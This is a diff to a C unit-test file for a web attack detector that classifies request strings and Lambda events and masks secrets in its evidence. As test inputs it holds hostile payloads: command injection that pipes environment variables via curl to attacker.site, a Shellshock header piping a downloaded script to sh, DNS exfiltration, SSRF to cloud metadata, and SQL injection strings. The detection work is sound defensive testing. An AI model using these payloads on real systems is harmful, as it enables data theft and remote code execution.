@@ -2,13 +2,15 @@
  * shapes, evidence (masking, UTF-8), hostile inputs, and the labelled corpus of
  * tests/data/detect/ (recall and false-positive rate printed per class; the suite fails if the
  * overall recall is 90% or less or the false-positive rate 1% or more). */
+#include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
 #include <stdint.h>
-#include <setjmp.h>
+
 #include <cmocka.h>
 
 #include "observe/detect.h"
+#include "observe/detect_int.h"
 
 #include <dirent.h>
 #include <pthread.h>
@@ -157,7 +159,8 @@ static void test_cmdi(void **state)
 {
     (void)state;
     assert_detects("file.pdf; cat /etc/passwd", OBS_CMDI);
-    assert_detects("foobar;env|curl -H \"Content-Type: text/plain\" -X POST -d @- http://attacker.site/collector #.pdf",
+    assert_detects("foobar;env|curl -H \"Content-Type: text/plain\" -X POST -d @- "
+                   "http://attacker.site/collector #.pdf",
                    OBS_CMDI);
     assert_detects("x && whoami", OBS_CMDI);
     assert_detects("$(nslookup $(whoami).attacker.example)", OBS_CMDI);
@@ -192,8 +195,7 @@ static void test_ssrf_in_every_encoding(void **state)
     assert_detects("http://metadata.google.internal/computeMetadata/v1/", OBS_SSRF);
     assert_detects("http://127.0.0.1:9001/2018-06-01/runtime/invocation/next", OBS_SSRF);
     assert_detects("http://localhost:9001/2018-06-01/runtime/invocation/next", OBS_SSRF);
-    assert_detects("http://${AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation/next",
-                   OBS_SSRF);
+    assert_detects("http://${AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation/next", OBS_SSRF);
     assert_detects("file:///proc/self/environ", OBS_SSRF);
     assert_detects("gopher://10.0.0.5:6379/_INFO", OBS_SSRF);
     assert_detects("dict://127.0.0.1:11211/stats", OBS_SSRF);
@@ -242,7 +244,8 @@ static void test_base64_leaves_are_decoded(void **state)
     assert_detects("JyBPUiAxPTEtLQ==", OBS_SQLI);
     assert_detects("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", OBS_XSS);
     /* a base64 PNG header decodes to binary: not text, not inspected as text */
-    assert_clean("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==");
+    assert_clean("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAA"
+                 "ABJRU5ErkJggg==");
 }
 
 static void test_html_entities_and_json_strings_are_decoded(void **state)
@@ -289,7 +292,8 @@ static void test_v1_event_query_headers_and_path(void **state)
     (void)state;
     size_t n = inspect_event(
         "{\"resource\":\"/items/{id}\",\"path\":\"/items/..%2f..%2f..%2fetc%2fpasswd\","
-        "\"httpMethod\":\"GET\",\"headers\":{\"User-Agent\":\"() { :; }; /bin/bash -c 'curl http://x.example/s|sh'\","
+        "\"httpMethod\":\"GET\",\"headers\":{\"User-Agent\":\"() { :; }; /bin/bash -c 'curl "
+        "http://x.example/s|sh'\","
         "\"Accept\":\"text/html\"},\"queryStringParameters\":{\"id\":\"1 UNION SELECT 1,2,3\"},"
         "\"multiValueQueryStringParameters\":{\"id\":[\"1 UNION SELECT 1,2,3\"]},"
         "\"pathParameters\":{\"id\":\"..%2f..%2f..%2fetc%2fpasswd\"},"
@@ -311,7 +315,9 @@ static void test_v2_event_raw_query_cookies_and_base64_json_body(void **state)
         "\"cookies\":[\"session=abc\",\"theme=dark'; DROP TABLE users--\"],"
         "\"headers\":{\"content-type\":\"application/json\"},"
         "\"requestContext\":{\"http\":{\"method\":\"POST\"}},\"isBase64Encoded\":true,"
-        "\"body\":\"eyJ1c2VyIjp7IiRuZSI6bnVsbH0sIm5leHQiOiJodHRwOi8vMTY5LjI1NC4xNjkuMjU0L2xhdGVzdC9tZXRhLWRhdGEvIn0=\"}");
+        "\"body\":"
+        "\"eyJ1c2VyIjp7IiRuZSI6bnVsbH0sIm5leHQiOiJodHRwOi8vMTY5LjI1NC4xNjkuMjU0L2xhdGVzdC9tZXRhLWRh"
+        "dGEvIn0=\"}");
     assert_event_match(n, OBS_XSS, "rawQueryString.q");
     assert_event_match(n, OBS_SQLI, "cookies.theme");
     assert_event_match(n, OBS_NOSQLI, "body.user.$ne");
@@ -329,10 +335,13 @@ static void test_form_bodies_and_benign_events(void **state)
     assert_int_equal(n, 1);
     n = inspect_event(
         "{\"httpMethod\":\"POST\",\"path\":\"/orders\",\"requestContext\":{},"
-        "\"headers\":{\"content-type\":\"application/json\",\"user-agent\":\"Mozilla/5.0 (X11; Linux x86_64)\","
+        "\"headers\":{\"content-type\":\"application/json\",\"user-agent\":\"Mozilla/5.0 (X11; "
+        "Linux x86_64)\","
         "\"referer\":\"https://shop.example.com/cart?item=42\"},"
         "\"queryStringParameters\":{\"currency\":\"EUR\"},"
-        "\"body\":\"{\\\"customer\\\":\\\"Siobhan O'Connor\\\",\\\"note\\\":\\\"Please select the gift wrap; drop it at the union office\\\",\\\"items\\\":[{\\\"sku\\\":\\\"A-1\\\",\\\"qty\\\":2}]}\"}");
+        "\"body\":\"{\\\"customer\\\":\\\"Siobhan O'Connor\\\",\\\"note\\\":\\\"Please select the "
+        "gift wrap; drop it at the union "
+        "office\\\",\\\"items\\\":[{\\\"sku\\\":\\\"A-1\\\",\\\"qty\\\":2}]}\"}");
     assert_int_equal(n, 0);
 }
 
@@ -341,12 +350,27 @@ static void test_authorization_header_evidence_is_masked(void **state)
     (void)state;
     size_t n = inspect_event(
         "{\"httpMethod\":\"GET\",\"path\":\"/\",\"requestContext\":{},"
-        "\"headers\":{\"Authorization\":\"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlc2lnbmF0dXJl' OR '1'='1\"}}");
+        "\"headers\":{\"Authorization\":\"Bearer "
+        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlc2lnbmF0dXJl' OR '1'='1\"}}");
     const struct obs_match *m = find(got, n, OBS_SQLI);
     assert_non_null(m);
     assert_string_equal(m->location, "headers.Authorization");
     assert_null(strstr(m->evidence, "eyJzdWIiOiIxIn0"));
     assert_null(strstr(m->evidence, "c2lnbmF0dXJl"));
+}
+
+static void test_cookie_evidence_masks_session_tokens(void **state)
+{
+    (void)state;
+    size_t n =
+        inspect_event("{\"httpMethod\":\"GET\",\"path\":\"/\",\"requestContext\":{},"
+                      "\"headers\":{\"Cookie\":\"lang=en; "
+                      "sid=Zm9vYmFyYmF6cXV4MTIzNDU2' UNION SELECT password FROM users--\"}}");
+    const struct obs_match *m = find(got, n, OBS_SQLI);
+    assert_non_null(m);
+    assert_string_equal(m->location, "cookies.sid");
+    assert_null(strstr(m->evidence, "YmFyYmF6cXV4"));
+    assert_non_null(strstr(m->evidence, "UNION SELECT"));
 }
 
 /* ---- shapes and evidence ---- */
@@ -413,7 +437,8 @@ static void test_evidence_masks_secrets(void **state)
     assert_non_null(strstr(m->evidence, "AKIA"));
     assert_null(strstr(m->evidence, "hunter2"));
     assert_null(strstr(m->evidence, "abcdef"));
-    n = inspect("<script>fetch('/x',{headers:{Authorization:'Bearer sk_live_0123456789abcdef'}})</script>");
+    n = inspect(
+        "<script>fetch('/x',{headers:{Authorization:'Bearer sk_live_0123456789abcdef'}})</script>");
     m = find(got, n, OBS_XSS);
     assert_non_null(m);
     assert_null(strstr(m->evidence, "0123456789abcdef"));
@@ -532,7 +557,11 @@ static void test_many_leaves_are_bounded_by_the_event_budget(void **state)
     json_object_set_new(ev, "requestContext", json_object());
     for (int i = 0; i < 20000; i++) {
         snprintf(key, sizeof key, "k%d", i);
-        json_object_set_new(qs, key, json_string("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' OR 1=1--"));
+        json_object_set_new(
+            qs, key,
+            json_string(
+                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
+                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' OR 1=1--"));
     }
     json_object_set_new(ev, "queryStringParameters", qs);
     t0 = now_s();
@@ -590,29 +619,15 @@ struct tally {
 /* Reads one corpus line into out: "b64:" lines are base64 of the raw payload. */
 static size_t corpus_line(const char *line, size_t n, char *out, size_t cap)
 {
-    static const char alphabet[] =
-        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    size_t o = 0;
+
     if (n < 4 || memcmp(line, "b64:", 4) != 0) {
         if (n > cap)
             n = cap;
         memcpy(out, line, n);
         return n;
     }
-    size_t o = 0;
-    unsigned acc = 0;
-    int bits = 0;
-    for (size_t i = 4; i < n; i++) {
-        const char *p = strchr(alphabet, line[i]);
-        if (line[i] == '=' || p == NULL || line[i] == '\0')
-            continue;
-        acc = (acc << 6) | (unsigned)(p - alphabet);
-        bits += 6;
-        if (bits >= 8) {
-            bits -= 8;
-            if (o < cap)
-                out[o++] = (char)((acc >> bits) & 0xFF);
-        }
-    }
+    assert_true(obs_base64_decode(line + 4, n - 4, (unsigned char *)out, cap, &o));
     return o;
 }
 
@@ -694,7 +709,8 @@ static void test_corpus_recall_and_false_positive_rate(void **state)
 
     for (int c = 0; c < OBS_CLASS_COUNT; c++) {
         struct attack_ctx a = {(enum obs_class)c, &rec[c], 0};
-        snprintf(path, sizeof path, CORPUS_DIR "/attacks/%s.txt", obs_class_name((enum obs_class)c));
+        snprintf(path, sizeof path, CORPUS_DIR "/attacks/%s.txt",
+                 obs_class_name((enum obs_class)c));
         each_line(path, on_attack, &a);
         total += rec[c].total;
         hit += rec[c].hit;
@@ -714,21 +730,20 @@ static void test_corpus_recall_and_false_positive_rate(void **state)
            "false positives (benign strings it fired on)");
     for (int c = 0; c < OBS_CLASS_COUNT; c++)
         printf("    %-16s %8u %8u %7.1f%%   %u (%.2f%%)\n", obs_class_name((enum obs_class)c),
-               rec[c].total, rec[c].hit,
-               rec[c].total ? 100.0 * rec[c].hit / rec[c].total : 0.0, fp[c].hit,
-               b.total ? 100.0 * fp[c].hit / b.total : 0.0);
+               rec[c].total, rec[c].hit, rec[c].total ? 100.0 * rec[c].hit / rec[c].total : 0.0,
+               fp[c].hit, b.total ? 100.0 * fp[c].hit / b.total : 0.0);
     double recall = total ? (double)hit / total : 0.0;
     double fpr = b.total ? (double)b.fp / b.total : 1.0;
-    printf("    %-16s %8u %8u %7.1f%%   %u of %u benign strings (%.2f%%)\n", "overall", total,
-           hit, 100.0 * recall, b.fp, b.total, 100.0 * fpr);
+    printf("    %-16s %8u %8u %7.1f%%   %u of %u benign strings (%.2f%%)\n", "overall", total, hit,
+           100.0 * recall, b.fp, b.total, 100.0 * fpr);
     assert_true(total >= 500);
     assert_true(b.total >= 2000);
     assert_true(recall > 0.90);
     assert_true(fpr < 0.01);
 }
 
-/* Whole events: the .json files of tests/data/detect/events/, each {"expect": [{"class", "location"}],
- * "event": {...}}; an empty expect means benign (nothing may fire). */
+/* Whole events: the .json files of tests/data/detect/events/, each {"expect": [{"class",
+ * "location"}], "event": {...}}; an empty expect means benign (nothing may fire). */
 static void test_corpus_events(void **state)
 {
     DIR *dir = opendir(CORPUS_DIR "/events");
@@ -758,7 +773,8 @@ static void test_corpus_events(void **state)
                          obs_class_name(got[0].cls), got[0].technique, got[0].location,
                          got[0].evidence);
         }
-        json_array_foreach(expect, i, x) {
+        json_array_foreach(expect, i, x)
+        {
             const char *cls = json_string_value(json_object_get(x, "class"));
             const char *loc = json_string_value(json_object_get(x, "location"));
             bool ok = false;
@@ -795,6 +811,7 @@ int main(void)
         cmocka_unit_test(test_v2_event_raw_query_cookies_and_base64_json_body),
         cmocka_unit_test(test_form_bodies_and_benign_events),
         cmocka_unit_test(test_authorization_header_evidence_is_masked),
+        cmocka_unit_test(test_cookie_evidence_masks_session_tokens),
         cmocka_unit_test(test_same_attack_with_other_literals_has_the_same_shape),
         cmocka_unit_test(test_different_attacks_have_different_shapes),
         cmocka_unit_test(test_evidence_masks_secrets),
